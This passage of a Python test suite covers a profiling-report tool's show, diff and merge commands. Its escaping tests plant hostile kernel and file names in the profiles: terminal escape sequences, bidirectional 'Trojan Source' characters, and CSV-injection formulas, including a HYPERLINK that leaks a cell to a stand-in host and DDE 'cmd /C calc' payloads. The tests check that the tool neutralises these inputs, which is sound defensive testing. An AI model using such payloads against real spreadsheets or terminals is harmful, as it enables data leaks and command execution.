    other = copy.deepcopy(bufs)
    other["pid"], other["created"] = other["pid"] + 1, "2026-11-22T06:00:00Z"
    op = save(other, "trace_other.json")
    m = merge("traces_ab.json", TRACE, op)
    check("trace" not in m and [t["process"] for t in m.get("traces", [])] == [0, 1],
          "merge: traces of processes 0 and 1, no trace")
    check(all({k: v for k, v in t.items() if k != "process"} == src["trace"]
              for t, src in zip(m["traces"], (p, other))) and
          all(list(t)[0] == "process" for t in m["traces"]),
          "merge: each entry is its input's trace, process first")
    mab = os.path.join(WORK, "traces_ab.json")
    m3 = merge("traces_abc.json", mab, TRACE)
    flat = merge("traces_flat.json", TRACE, op, copy_of(TRACE))
    check([t["process"] for t in m3["traces"]] == [0, 1, 2] and
          m3["traces"] == flat["traces"],
          "merge of a merged profile: processes 0, 1, 2, as merging all at once")
    m3 = merge("traces_a_bc.json", TRACE, mab)
    flat = merge("traces_flat2.json", TRACE, copy_of(TRACE), op)
    check([t["process"] for t in m3["traces"]] == [0, 1, 2] and
          m3["traces"] == flat["traces"] and
          [m3["merged_from"][t["process"]]["pid"] for t in m3["traces"]] ==
          [p["pid"], p["pid"], other["pid"]],
          "merge with a merged profile second: its traces move to processes 1, 2")
    check(len(merge("traces_none.json", GPU, HOST_DOT)) and
          "traces" not in load(os.path.join(WORK, "traces_none.json")),
          "merge: no traces when no input has one")
    m1 = merge("traces_one.json", GPU, TRACE)
    check([t["process"] for t in m1["traces"]] == [1],
          "merge: the trace keeps its input's process index")
    out = run("show", mab).stdout
    check(f"pasta: trace of process 1 ({other['program']}, pid {other['pid']}, "
          f"from {op}):" in out and out.count("pasta: trace: memory footprint") == 2,
          "show of a merged profile: one trace per process, named")
    check(json.loads(run("show", mab, "--format", "json").stdout) == m,
          "json of a merged profile: traces kept")
    b = csv_blocks(run("show", mab, "--format", "csv").stdout)
    check([r["process"] for r in b["trace.scopes"][1]] == ["0"] * n + ["1"] * n and
          [r["process"] for r in b["trace.buffers"][1]] == ["1"] * 3,
          "csv of a merged profile: rows of both processes")

    # diff: footprint and per-scope stride-k / indirect accesses.
    before = copy.deepcopy(p)
    after = copy.deepcopy(p)
    after["trace"]["footprint"].update(peak_bytes=4096, peak_buffers=2)
    for s in after["trace"]["scopes"]:
        if (s["scope_type"], s["line"]) == ("loop", 29):
            s["accesses"]["static"]["stride-k"] = 1
            s["accesses"]["dynamic"]["stride-k"] = 30
        if (s["scope_type"], s["funcname"]) == ("func", "find"):
            s["accesses"]["static"]["indirect"] = 1
            s["accesses"]["dynamic"]["indirect"] = 7
    for s in before["trace"]["scopes"]:
        if (s["scope_type"], s["funcname"]) == ("func", "odd"):
            s["accesses"]["static"]["indirect"] = 1
            s["accesses"]["dynamic"]["indirect"] = 3
    after["trace"]["scopes"] = [s for s in after["trace"]["scopes"]
                                if s["funcname"] != "odd"]
    out = run("diff", save(before, "trace_before.json"),
              save(after, "trace_after.json")).stdout
    text = [re.sub(r"\s+", " ", l.strip()) for l in
            out[out.find("Trace analyses"):].splitlines()]
    check(text[2:4] == ["peak footprint (B) 0 4096 +4096 -",
                        "buffers live at peak 0 2 +2 -"],
          "diff trace: peak footprint 0 -> 4096 (by hand)", text[:4])
    i = next((k for k, l in enumerate(text) if l.startswith("Scopes with")), None)
    check(i is not None and f"({n - 3} more scopes have none)" in text[i] and
          text[i + 2:i + 8] == [
              "tri loop scopes.c:29 changed stride-k 0 30 +30 -",
              "indirect 0 0 0 -",
              "find func scopes.c:34 changed stride-k 0 0 0 -",
              "indirect 0 7 +7 -",
              "odd func scopes.c:24 removed stride-k 0 - 0 -",
              "indirect 3 - -3 -100.0%"],
          "diff trace: scopes by change of stride-k + indirect (by hand)",
          text[i:i + 8] if i is not None else out)
    out = run("diff", TRACE, TRACE).stdout
    check(f"No scope has stride-k or indirect accesses in either profile ({n} scopes "
          f"before, {n} after)." in out and "peak footprint (B) 0 0 0 -" in
          re.sub(r"\s+", " ", out), "diff of the trace with itself")
    check("only the before profile has a trace section" in run("diff", TRACE, GPU).stdout,
          "diff: trace on one side only")
    check("a merged profile keeps one per process" in run("diff", TRACE, mab).stdout,
          "diff: a merged profile's traces are not compared")
    check("Trace analyses" not in run("diff", GPU, GPU).stdout,
          "diff without traces: nothing about them")


# ---------------------------------------------------------------- errors
def one_error(p, what, *needles):
    lines = p.stderr.strip().splitlines()
    check(p.returncode == 2 and lines and lines[0].startswith("pasta-report: error: ")
          and all(n in lines[0] for n in needles),
          what, f"exit {p.returncode}, stderr {p.stderr!r}")
    return lines


def test_errors():
    # A failed run of this test may have left the merge's output behind.
    stale = os.path.join(WORK, "x.json")
    if os.path.exists(stale):
        os.remove(stale)
    v7 = load(GPU)
    v7["version"] = 7
    path = save(v7, "v7.json")
    for cmd in (["show", path], ["diff", GPU, path], ["merge", os.path.join(WORK, "x.json"), path]):
        lines = one_error(run(*cmd, expect_rc=None), f"{cmd[0]}: version 7 rejected",
                          f"{path}: ", "version (7)", "reads versions 1 to 6")
        check(len(lines) == 1, f"{cmd[0]}: version error is one line", lines)
    check(not os.path.exists(os.path.join(WORK, "x.json")), "merge: no output on error")
    other = load(GPU)
    other["schema"] = "other-profile"
    lines = one_error(run("show", save(other, "schema.json"), expect_rc=None),
                      "another schema rejected", "not a PASTA profile")
    check(len(lines) == 1, "schema error is one line")
    missing = os.path.join(WORK, "does-not-exist.json")
    lines = one_error(run("show", missing, expect_rc=None), "missing file",
                      f"{missing}: No such file or directory")
    check(len(lines) == 1, "missing file error is one line")
    with open(os.path.join(WORK, "broken.json"), "w") as f:
        f.write('{"schema":"pasta-profile",')
    one_error(run("show", os.path.join(WORK, "broken.json"), expect_rc=None),
              "invalid JSON", "not valid JSON")
    nolaunch = load(GPU)
    del nolaunch["kernels"][1]["launches"]
    one_error(run("show", save(nolaunch, "nolaunch.json"), expect_rc=None),
              "missing field named", 'kernels[1]: missing "launches"')
    neg = load(GPU)
    neg["lines"][2]["flops"]["f32"] = -1
    one_error(run("show", save(neg, "neg.json"), expect_rc=None),
              "negative count named", 'lines[2].flops: "f32" is not an unsigned integer')
    huge = open(GPU).read().replace('"launches":4,', '"launches":18446744073709551616,')
    with open(os.path.join(WORK, "huge.json"), "w") as f:
        f.write(huge)
    one_error(run("show", os.path.join(WORK, "huge.json"), expect_rc=None),
              "count above 2^64 - 1", "above 2^64 - 1")

    for args, needle in ((["frobnicate"], "unknown command 'frobnicate'"),
                         (["show", GPU, "--bogus"], "unknown option '--bogus'"),
                         (["diff", GPU, GPU, "--kernel", "x"], "unknown option '--kernel'"),
                         (["show", GPU, "--format", "xml"], "unknown format 'xml'"),
                         (["show", GPU, "--top", "many"], "invalid --top value 'many'"),
                         (["show", GPU, "--kernel", "("], "invalid --kernel regex"),
                         (["show", GPU, "--lines"], "--lines goes with --format csv"),
                         (["show"], "show takes one profile"),
                         (["merge", "out.json"], "merge needs OUT.json"),
                         ([], "missing command")):
        p = run(*args, expect_rc=None)
        lines = p.stderr.splitlines()
        check(p.returncode == 2 and lines and
              lines[0].startswith(f"pasta-report: error: {needle}") and
              any(l.startswith("usage:") for l in lines[1:]),
              f"usage error: {' '.join(args) or '(none)'}", p.stderr)
    p = run("--help")
    check(p.returncode == 0 and "pasta-report merge" in p.stdout, "--help")


# ------------------------------------------------ empty arrays (issue 15 #5)
def test_empty_arrays():
    """A kernel with "shapes": [] or "call_paths": [] (what a kernel that
    the runtime saw launched but could not symbolise writes) merges, shows
    and diffs; before the fix merge passed qsort a NULL array (UBSan)."""
    base = load(WS)
    names = [k["name"] for k in base["launches"]["kernels"]]
    fill = base["launches"]["kernels"][names.index("fill")]
    for key in ("shapes", "call_paths", "both"):
        d = copy.deepcopy(base)
        k = d["launches"]["kernels"][names.index("fill")]
        for member in (("shapes", "call_paths") if key == "both" else (key,)):
            k[member] = []
        path = save(d, f"empty_{key}.json")
        out = fresh(f"empty_{key}.merged.json")
        p = run("merge", out, path, expect_rc=None)
        check(p.returncode == 0 and p.stderr == "",
              f"merge of a kernel with empty {key}: exit 0, nothing on stderr",
              f"exit {p.returncode}, stderr {p.stderr!r}")
        if p.returncode:
            continue
        merged = load(out)
        mk = [x for x in merged["launches"]["kernels"] if x["name"] == "fill"]
        # One input: fill keeps its 3 launches and the empty arrays.
        check(len(mk) == 1 and mk[0]["launches"] == 3 and
              all(mk[0][m] == [] for m in (("shapes", "call_paths")
                                           if key == "both" else (key,))),
              f"merge of a kernel with empty {key}: launches 3, {key} empty", mk)
        # With the full profile: launches add up (3 + 3); an emptied array
        # is the full profile's own, the other one counts twice.
        emptied = ("shapes", "call_paths") if key == "both" else (key,)
        want = {m: [dict(e, launches=e["launches"] * (1 if m in emptied else 2))
                    for e in fill[m]] for m in ("shapes", "call_paths")}
        out2 = fresh(f"empty_{key}.merged2.json")
        p = run("merge", out2, path, WS, expect_rc=None)
        check(p.returncode == 0 and p.stderr == "",
              f"merge of empty {key} with the full profile: exit 0",
              f"exit {p.returncode}, stderr {p.stderr!r}")
        if p.returncode == 0:
            mk = [x for x in load(out2)["launches"]["kernels"]
                  if x["name"] == "fill"]
            check(len(mk) == 1 and mk[0]["launches"] == 6 and
                  all(sorted(map(json.dumps, mk[0][m])) ==
                      sorted(map(json.dumps, want[m]))  # ties: merge's order
                      for m in ("shapes", "call_paths")),
                  f"merge of empty {key} with the full profile: 6 launches, "
                  "shapes and paths", mk)
        for args in (("show", path), ("show", path, "--format", "csv"),
                     ("diff", path, WS)):
            p = run(*args, expect_rc=None)
            check(p.returncode == 0 and p.stderr == "",
                  f"{args[0]} of a kernel with empty {key}",
                  f"exit {p.returncode}, stderr {p.stderr!r}")


# ------------------------------------- hostile names (issue 15 #9)
ESC_NAME = "evil\x1b[31mRED\x1b[0m"   # shown as evil\x1b[31mRED\x1b[0m
NL_NAME = "two\nlines\tx\x7f"          # shown as two\nlines\tx\x7f
C1_NAME = "csi\u009b2J"                # C1 CSI, shown as csi\u009b2J
BAD_FILE = "/src/\rbad.cu"              # shown as /src/\rbad.cu


def controls(text):
    """Control characters (C0 but newline, DEL, C1) left in `text`."""
    return [hex(ord(c)) for c in text
            if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f]


def hostile_profiles():
    gpu = load(GPU)
    gpu["program"] = "./app\x1b]0;pwned\x07"
    names = [k["name"] for k in gpu["kernels"]]
    sax = gpu["kernels"][names.index("saxpy")]
    sax["name"] = ESC_NAME
    gpu["kernels"][names.index("histogram")]["name"] = NL_NAME
    gpu["kernels"][names.index("stencil_1d")]["name"] = C1_NAME
    for l in gpu["lines"]:
        if l["function"] == "saxpy":
            l["function"] = ESC_NAME
            l["file"] = BAD_FILE
    ws = load(WS)
    for k in ws["launches"]["kernels"]:
        if k["name"] == "fill":
            k["name"] = ESC_NAME
            k["call_paths"][0]["frames"][0]["function"] = NL_NAME
    for r in ws["bandwidth"]["kernels"]:
        if r["name"] == "fill":
            r["name"] = ESC_NAME
    tr = load(TRACE)
    tr["trace"]["scopes"][0]["funcname"] = ESC_NAME
    return save(gpu, "hostile_gpu.json"), save(ws, "hostile_ws.json"), \
        save(tr, "hostile_trace.json")


def test_escape():
    gpu, ws, tr = hostile_profiles()
    # Text tables: no control character reaches the terminal; each name is
    # shown escaped, on one row.
    for args in (("show", gpu), ("show", ws), ("show", tr), ("diff", gpu, GPU),
                 ("diff", ws, WS), ("diff", tr, TRACE), ("show", gpu, "--kernel", "evil")):
        out = run(*args).stdout
        check(controls(out) == [], " ".join(map(os.path.basename, args)) +
              ": no control characters in the tables", controls(out)[:8])
    out = run("show", gpu).stdout
    check(out.startswith("== PASTA: profile of ./app\\x1b]0;pwned\\x07 (pid 48213) =="),
          "show: program name escaped in the header", out.splitlines()[0])
    rows = {r[0]: r for r in (l.split() for l in out.splitlines()) if r}
    check("evil\\x1b[31mRED\\x1b[0m" in rows and rows["evil\\x1b[31mRED\\x1b[0m"][1] == "4",
          "show: ESC name escaped, its row intact (4 launches)")
    check("two\\nlines\\tx\\x7f" in rows and rows["two\\nlines\\tx\\x7f"][1] == "2",
          "show: newline, tab and DEL escaped, one row (2 launches)")
    check("csi\\u009b2J" in rows and rows["csi\\u009b2J"][1] == "1",
          "show: C1 control escaped (1 launch)")
    check(any(l.strip().startswith("/src/\\rbad.cu:15 ") for l in out.splitlines()),
          "show: carriage return in a file name escaped in the line table")
    out = run("show", ws).stdout
    check("evil\\x1b[31mRED\\x1b[0m" in out and "two\\nlines\\tx\\x7f (" in out,
          "show: launch table and call paths escaped")
    # Kernels show the before's names; only changed ones are listed.
    more = load(gpu)
    for k in more["kernels"]:
        k["launches"] *= 2
    out = run("diff", gpu, save(more, "hostile_more.json")).stdout
    check(re.search(r"^  two\\nlines\\tx\\x7f\s+changed\s+launches\s+2\s+4\s", out, re.M)
          is not None, "diff: escaped name in the kernel table, one row")

    # CSV (RFC 4180): every record has the header's number of fields, no
    # field holds a control character, names are shown escaped.
    for args in (("show", gpu, "--format", "csv"),
                 ("show", gpu, "--format", "csv", "--lines"),
                 ("show", ws, "--format", "csv"),
                 ("show", tr, "--format", "csv")):
        out = run(*args).stdout
        what = f"csv {os.path.basename(args[1])}{' --lines' if '--lines' in args else ''}"
        check(controls(out) == [], f"{what}: no control characters", controls(out)[:8])
        first = out.split("\n\n# ")[0]
        recs = list(csv.reader(io.StringIO(first)))
        check(len(recs) > 1 and all(len(r) == len(recs[0]) for r in recs),
              f"{what}: every record has {len(recs[0])} fields",
              [len(r) for r in recs])
    recs = list(csv.reader(io.StringIO(run("show", gpu, "--format", "csv").stdout.split("\n\n# ")[0])))
    names = [r[1] for r in recs[1:]]
    check("evil\\x1b[31mRED\\x1b[0m" in names and "two\\nlines\\tx\\x7f" in names
          and "csi\\u009b2J" in names, "csv: names escaped", names)
    # Quoting: a comma and a quote in a name, RFC 4180.
    g = load(GPU)
    g["kernels"][0]["name"] = 'a,"b"'
    out = run("show", save(g, "comma.json"), "--format", "csv").stdout
    check('\nkernel,"a,""b""",' in out, "csv: comma and quote quoted (RFC 4180)")
    # An object where a string belongs is one quoted cell, not many.
    w = load(WS)
    w["launches"]["kernels"][0]["name"] = {"a": 1, "b": 2}
    out = run("show", save(w, "objname.json"), "--format", "csv").stdout
    block = out.split("# launches\n")[1].split("\n\n")[0]
    recs = list(csv.reader(io.StringIO(block)))
    check(all(len(r) == len(recs[0]) for r in recs) and recs[1][0] == '{"a":1,"b":2}',
          "csv: an object in a name column is one quoted cell", recs[:2])
    # Bidirectional controls and line separators (U+202E, U+2066, U+2028):
    # escaped too, so a name cannot reorder or break what the terminal
    # shows around it ("Trojan Source").
    g = load(GPU)
    g["kernels"][0]["name"] = "rev\u202eesrever\u2066x\u2069\u2028end"
    out = run("show", save(g, "bidi.json")).stdout
    check("rev\\u202eesrever\\u2066x\\u2069\\u2028end" in out and
          not any(c in out for c in "\u202e\u2066\u2069\u2028"),
          "show: bidirectional controls and line separators escaped")
    # CSV injection: a name or file starting with = + - @ opens in a
    # spreadsheet as text, not as a formula (behind a '); numbers stay.
    g = load(GPU)
    formulas = ['=HYPERLINK("http://x/?"&A1,"y")', "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
    for k, f in zip(g["kernels"], formulas):
        k["name"] = f
    g["lines"][0]["file"] = "=1+1"
    g["lines"][1]["file"] = "-5"
    path = save(g, "formulas.json")
    recs = list(csv.reader(io.StringIO(run("show", path, "--format", "csv").stdout.split("\n\n# ")[0])))
    names = [r[1] for r in recs[1:]]
    check(all("'" + f in names for f in formulas) and
          not any(n[:1] in "=+-@" for n in names if n),
          "csv: names that start like a formula start with '", names)
    recs = list(csv.reader(io.StringIO(run("show", path, "--format", "csv", "--lines").stdout.split("\n\n# ")[0])))
    files = [r[0] for r in recs[1:]]
    check("'=1+1" in files and "-5" in files, "csv: a file too; a number stays", files[:3])

    # Error and warning lines: what a file holds (the text near a JSON syntax
    # error) and what a directory's file names hold reach the terminal
    # escaped, on one line.
    bad = os.path.join(WORK, "esc_token.json")
    with open(bad, "w") as f:
        f.write('{"schema":"pasta-profile","version":4,"x":\x1b]0;pwned\x07}')
    err = run("show", bad, expect_rc=2).stderr
    check(controls(err) == [] and "near '\\x1b'" in err and err.count("\n") == 1,
          "error line: the file's text escaped", err)
    ranks = os.path.join(WORK, "esc_ranks")
    shutil.rmtree(ranks, ignore_errors=True)
    if os.path.exists(os.path.join(WORK, "esc_merged.json")):
        os.remove(os.path.join(WORK, "esc_merged.json"))
    os.makedirs(ranks)
    shutil.copy(GPU, os.path.join(ranks, "a.json"))
    with open(os.path.join(ranks, "b\x1b[2J\nfake.json"), "w") as f:
        f.write("x")
    err = run("merge", os.path.join(WORK, "esc_merged.json"), ranks, expect_rc=2).stderr
    check(controls(err) == [] and "b\\x1b[2J\\nfake.json" in err and err.count("\n") == 1,
          "error line: a file name from a directory escaped", err)
    os.remove(os.path.join(ranks, "b\x1b[2J\nfake.json"))
    dup = os.path.join(ranks, "a\x1b[31m.json")
    os.link(os.path.join(ranks, "a.json"), dup)
    err = run("merge", os.path.join(WORK, "esc_merged.json"), ranks, "--force").stderr
    check(controls(err) == [] and "a\\x1b[31m.json" in err,
          "warning line: a file name from a directory escaped", err)
    outside = tempfile.mkdtemp()
    src = os.path.join(outside, "s\x1b]0;pwned\x07.cu")
    with open(src, "w") as f:
        f.write("int x;\n")
    g = load(GPU)
    g["lines"][0]["file"] = src
    err = run("html", save(g, "esc_html.json"), "-o", os.path.join(WORK, "esc.html"),
              "--force").stderr
    shutil.rmtree(outside)
    check(controls(err) == [] and "s\\x1b]0;pwned\\x07.cu is outside" in err,
          "html: a refused source file's name escaped", err)


# ---------------------------------------- diff of host code (issue 15 #6)
def blocks(out):
    """{name: [its rows]} of the function tables of a diff, whitespace
    collapsed; `name` is "TITLE/function" (TITLE: the table's first word)."""
    found, title, lines = {}, None, out.splitlines()
    for i, l in enumerate(lines):
        if not l.startswith(" "):
            title = l.split()[0] if l.strip() else None
            continue
        cells = l.split()
        if title and len(cells) > 2 and cells[1] in ("changed", "new", "gone"):
            rows = [re.sub(r"\s+", " ", l.strip())]
            for x in lines[i + 1:]:
                if not x.startswith("   ") or re.match(r"^  \S", x):
                    break
                rows.append(re.sub(r"\s+", " ", x.strip()))
            found[f"{title}/{cells[0]}"] = rows
    return found


def test_diff_host():
    host = load(HOST_DOT)
    after = copy.deepcopy(host)
    dot = [f for f in after["host_functions"] if f["name"] == "dot"][0]
    dot["calls"] = 5
    dot["flops"]["f64"] = 10000
    ap = save(after, "dot_after.json")
    p = run("diff", HOST_DOT, ap)
    out = p.stdout
    check("No kernels in either profile" not in out and
          "not compiled with the plugin" not in out,
          "diff of host-only profiles: no false claims", out[:300])
    check("Host functions (exact counts; change = after - before):" in out,
          "diff of host-only profiles: a host function table")
    b = blocks(out)
    # Hand-derived: dot 3 -> 5 calls (+66.7%), 6000 -> 10000 f64 FLOPs;
    # its bytes (48000 loaded, nothing stored) do not change, so (issue 46)
    # only the calls and FLOPs rows are shown.
    check(b.get("Host/dot") == ["dot changed calls 3 5 +2 +66.7%",
                                "FLOPs 6000 10000 +4000 +66.7%"],
          "diff host: dot changed, only what changed", b.get("Host/dot"))
    # scale (2 calls, 8000 + 8000 bytes, 2000 FLOPs) and main are unchanged:
    # left out, and counted.
    check("Host/scale" not in b and list(b) == ["Host/dot"],
          "diff host: unchanged functions left out", list(b))
    check(re.search(r"^  \(%d unchanged not shown\)$" % (len(host["host_functions"]) - 1),
                    out, re.M) is not None, "diff host: unchanged ones counted")
    check("PASTA saw no CUDA or HIP call in either program" in out,
          "diff host: the activity line says why there are no launches")

    # Two different programs: functions of each side new or gone, main
    # compared; values computed from the two profiles.
    out = run("diff", HOST_DOT, HOST_REC).stdout
    b = blocks(out)
    rec = load(HOST_REC)

    def sums(f):
        by = sum(f[g][sp] for g in ("load_bytes", "store_bytes", "atomic_bytes")
                 for sp in SPACES)
        return f["calls"], by, sum(f["flops"].values()), f["special"]

    for f in host["host_functions"]:
        if f["name"] != "main":
            c, by, fl, sp = sums(f)
            want = [f"calls {c} - -{c} -100.0%"]
            want += [f"bytes {by} - -{by} -100.0%"] if by else []
            want += [f"FLOPs {fl} - -{fl} -100.0%"] if fl else []
            want += [f"special {sp} - -{sp} -100.0%"] if sp else []
            want[0] = f"{f['name']} gone " + want[0]
            check(b.get(f"Host/{f['name']}") == want,
                  f"diff host: {f['name']} gone, no rows of zeros", b.get(f"Host/{f['name']}"))
    for f in rec["host_functions"]:
        if f["name"] != "main":
            check((b.get(f"Host/{f['name']}") or [""])[0].startswith(
                f"{f['name']} new calls - {f['calls']} +{f['calls']} -"),
                f"diff host: {f['name']} new", b.get(f"Host/{f['name']}"))
    mb = sums([f for f in host["host_functions"] if f["name"] == "main"][0])
    ma = sums([f for f in rec["host_functions"] if f["name"] == "main"][0])
    check(any(r.split(" ", 2)[-1].startswith(f"bytes {mb[1]} {ma[1]} -{mb[1] - ma[1]} ")
              or r.startswith(f"bytes {mb[1]} {ma[1]} -{mb[1] - ma[1]} ")
              for r in b.get("Host/main") or []),
          "diff host: main's bytes compared", b.get("Host/main"))

    # GPU profiles: the device function table, and the activity line says
    # the kernels' launches were not seen.
    out = run("diff", GPU, GPU).stdout
    b = blocks(out)
    # Hand-derived (profiles/README.md): softplus 131072 calls, 262144
    # special operations.
    more = load(GPU)
    for f in more["device_functions"]:
        if f["name"] == "softplus":
            f["calls"] *= 2
    out = run("diff", GPU, save(more, "softplus_twice.json")).stdout
    b = blocks(out)
    check(b.get("Device/softplus") == ["softplus changed calls 131072 262144 +131072 +100.0%"],
          "diff: device functions compared", b.get("Device/softplus"))
    check("their kernels were counted but PASTA saw none of their launches" in out,
          "diff of GPU profiles without launches: the activity line says why")
    # Nothing registered at all.
    empty = copy.deepcopy(host)
    empty["host_functions"], empty["lines"] = [], []
    ep = save(empty, "nothing.json")
    out = run("diff", ep, ep).stdout
    check("No kernels, device functions or host functions in either profile" in out,
          "diff of profiles without functions: one line", out)


# ------------------------------- merge of many inputs (issue 15 #4)
def peak_rss_mb(args):
    """Peak resident memory of `pasta-report ARGS`, in MiB, measured in a
    child of its own (RUSAGE_CHILDREN keeps the largest child so far).
    ASan's quarantine is turned off so that freed memory counts as freed."""
    code = ("import os, resource, subprocess, sys\n"
            "env = dict(os.environ, ASAN_OPTIONS='quarantine_size_mb=0')\n"
            "p = subprocess.run(sys.argv[1:], env=env, capture_output=True)\n"
            "print(p.returncode, resource.getrusage(resource.RUSAGE_CHILDREN)"
            ".ru_maxrss // 1024)\n")
    p = subprocess.run([sys.executable, "-c", code, REPORT, *args],
                       capture_output=True, text=True)
    rc, mb = p.stdout.split()
    return int(rc), int(mb)


def test_merge_many():
    host = load(HOST_DOT)
    d = os.path.join(WORK, "ranks")
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    n = 100  # the guide's 64-rank job and more; at most 63 before the fix
    paths = []
    for r in range(n):
        h = copy.deepcopy(host)
        h["pid"] = 1000 + r
        paths.append(os.path.join(d, f"rank-{r:03d}.json"))
        with open(paths[-1], "w") as f:
            json.dump(h, f)
    with open(os.path.join(d, "notes.txt"), "w") as f:
        f.write("not a profile\n")
    os.makedirs(os.path.join(d, "sub.json"), exist_ok=True)  # a directory

    def dot_calls(m):
        return [f["calls"] for f in m["host_functions"] if f["name"] == "dot"]

    out = fresh("many.json")
    p = run("merge", out, *paths, expect_rc=None)
    check(p.returncode == 0, f"merge of {n} inputs on the command line", p.stderr)
    if p.returncode == 0:
        m = load(out)
        # Hand-derived: dot has 3 calls in each input: 3 * 100.
        check(dot_calls(m) == [300], "merge of 100 inputs: dot 300 calls", dot_calls(m))
        check([e["pid"] for e in m["merged_from"]] == list(range(1000, 1000 + n)) and
              [e["file"] for e in m["merged_from"]] == paths,
              "merge of 100 inputs: merged_from lists them in order")
    # A directory: its *.json files, sorted by name (not notes.txt, not the
    # sub.json directory).
    out = fresh("dir.json")
    p = run("merge", out, d, expect_rc=None)
    check(p.returncode == 0, "merge of a directory", p.stderr)
    if p.returncode == 0:
        m = load(out)
        check(dot_calls(m) == [300] and
              [e["file"] for e in m["merged_from"]] == paths,
              "merge DIR: the 100 *.json files, by name",
              [e["file"] for e in m["merged_from"]][:3])
    # A pattern the shell did not expand: rank-00?.json is ranks 0..9.
    out = fresh("glob.json")
    p = run("merge", out, os.path.join(d, "rank-00?.json"), expect_rc=None)
    check(p.returncode == 0, "merge of a quoted glob pattern", p.stderr)
    if p.returncode == 0:
        m = load(out)
        check(dot_calls(m) == [30] and [e["file"] for e in m["merged_from"]] == paths[:10],
              "merge 'rank-00?.json': ranks 0-9, dot 30 calls", dot_calls(m))
    # The output inside the merged directory: left out when merging again.
    inside = os.path.join(d, "merged.json")
    for attempt in (1, 2):
        p = run("merge", inside, d, "--force", expect_rc=None)
        check(p.returncode == 0 and dot_calls(load(inside)) == [300] and
              len(load(inside)["merged_from"]) == n,
              f"merge DIR/merged.json DIR --force (run {attempt}): the output is not an input",
              p.stderr)
    if os.path.exists(inside):
        os.remove(inside)
    # Mixed: a file, a directory and a pattern. The pattern's 10 files are
    # the directory's too: each file is merged once, with one warning.
    out = fresh("mixed.json")
    p = run("merge", out, HOST_DOT, d, os.path.join(d, "rank-09*.json"), expect_rc=None)
    check(p.returncode == 0 and len(load(out)["merged_from"]) == 1 + n and
          dot_calls(load(out)) == [3 * (1 + n)] and
          p.stderr.startswith("pasta-report: warning: 10 inputs named a file "
                              "named before") and
          len(p.stderr.splitlines()) == 1,
          "merge FILE DIR PATTERN: 101 files, the 10 named twice merged once",
          p.stderr)
    # Errors, one line each.
    empty = os.path.join(WORK, "empty-dir")
    os.makedirs(empty, exist_ok=True)
    one_error(run("merge", fresh("e.json"), empty, expect_rc=None),
              "merge of a directory without profiles", "empty-dir",
              "a directory without profiles")
    one_error(run("merge", fresh("e.json"), os.path.join(d, "nope-*.json"), expect_rc=None),
              "merge of a pattern that matches nothing", "nope-*.json",
              "no such file, and no file matches it as a pattern")
    one_error(run("merge", fresh("e.json"), os.path.join(d, "missing.json"), expect_rc=None),
              "merge of a missing file", "missing.json", "No such file or directory")

    # Memory does not grow with the number of inputs: merging 12 copies of
    # a profile of 4000 lines takes about what merging 3 takes (before the
    # fix every input stayed in memory: about 4x as much).
    big = copy.deepcopy(host)
    big["lines"] = [dict(copy.deepcopy(host["lines"][0]), line=i + 1,
                         file=f"./src/file{i % 50}.c") for i in range(4000)]
    bp = save(big, "big.json")
    copies = [copy_of(bp) for _ in range(12)]
    rc3, mb3 = peak_rss_mb(["merge", fresh("big3.json"), *copies[:3]])
    rc12, mb12 = peak_rss_mb(["merge", fresh("big12.json"), *copies])
    check(rc3 == 0 and rc12 == 0 and mb12 <= mb3 * 1.2 + 10,
          "merge: peak memory of 12 inputs within 1.2x + 10 MiB of 3 inputs",
          f"3 inputs: {mb3} MiB, 12 inputs: {mb12} MiB")
    if rc12 == 0:
        m = load(os.path.join(WORK, "big12.json"))
        # Entry i of big is line i + 1 of file(i % 50).c: entry 1 is line 2
        # of file1.c, and there is no line 1 of file1.c. Its executions add
        # up over the 12 copies.
        l1 = [l for l in m["lines"] if l["line"] == 1 and l["file"] == "./src/file1.c"]
        l2 = [l for l in m["lines"] if l["line"] == 2 and l["file"] == "./src/file1.c"]
        check(l1 == [] and len(l2) == 1 and
              l2[0]["executions"] == 12 * host["lines"][0]["executions"],
              "merge of 12 copies: a line's executions are 12 times its own")


def main():
    global REPORT, WORK, GPU, HOST_DOT, HOST_REC, WS, WINDOW, TRACE
    if len(sys.argv) != 5:
        print(__doc__.strip().splitlines()[2], file=sys.stderr)
        return 2
    group, REPORT, profiles, WORK = sys.argv[1:]
    WORK = os.path.join(WORK, group)
    os.makedirs(WORK, exist_ok=True)
    GPU = os.path.join(profiles, "gpu_saxpy_stencil.json")
    HOST_DOT = os.path.join(profiles, "host_dot_scale.json")
    HOST_REC = os.path.join(profiles, "host_recursion.json")
    fixtures = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures")
    WS = os.path.normpath(os.path.join(fixtures, "working_set.ws.json"))
    WINDOW = os.path.normpath(os.path.join(fixtures, "working_set.window.json"))
    TRACE = os.path.normpath(os.path.join(fixtures, "trace_scopes.json"))
    tests = {"show": test_show, "csv": test_csv, "json": test_json,
             "merge": test_merge, "diff": test_diff, "errors": test_errors,
             "merge-activity": test_merge_activity,
             "diff-activity": test_diff_activity,
             "sections": test_sections, "trace": test_trace,
             "empty-arrays": test_empty_arrays, "escape": test_escape,
             "diff-host": test_diff_host, "merge-many": test_merge_many}
    if group not in tests:
        print(f"unknown group {group}", file=sys.stderr)
        return 2
    tests[group]()
    print(f"{group}: {'all passed' if not failures else f'{failures} failed'}")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
